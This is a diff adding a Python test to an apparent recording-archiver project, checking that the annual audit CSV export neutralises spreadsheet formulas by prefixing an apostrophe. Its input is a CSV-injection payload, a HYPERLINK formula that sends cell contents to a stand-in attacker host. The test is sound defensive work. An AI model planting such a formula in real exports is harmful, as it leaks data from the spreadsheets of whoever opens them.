@@ -182,3 +182,20 @@ def test_the_html_is_self_contained_and_its_bars_match_the_months(seeded, tmp_pa
 
 def _bar(pixel: tuple[int, int, int]) -> bool:
     return all(abs(a - b) < 12 for a, b in zip(pixel, BAR, strict=True))
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(cli, recorder: Path, tmp_path: Path):
+    """A retrieval reason written as a formula reaches the auditor's spreadsheet as the text it is."""
+    from datetime import date
+
+    from archiver.audit.annual import inert
+
+    assert cli("ingest", recorder).exit_code == 0
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert cli("recordings", "get", "1", tmp_path / "out", "--reason", formula).exit_code == 0
+    done = cli("report", "year", str(date.today().year), "--csv", tmp_path / "csv")
+    assert done.exit_code == 0, done.output
+    rows = list(csv.DictReader((tmp_path / "csv" / "retrievals.csv").read_text(encoding="utf-8-sig").splitlines()))
+    assert [r["reason"] for r in rows] == ["'" + formula]
+    assert [inert(v) for v in ("+1", "-2", "@SUM(A1)", "\tx", "\rx", "plain", 5, -3)] == \
+        ["'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "plain", 5, -3]
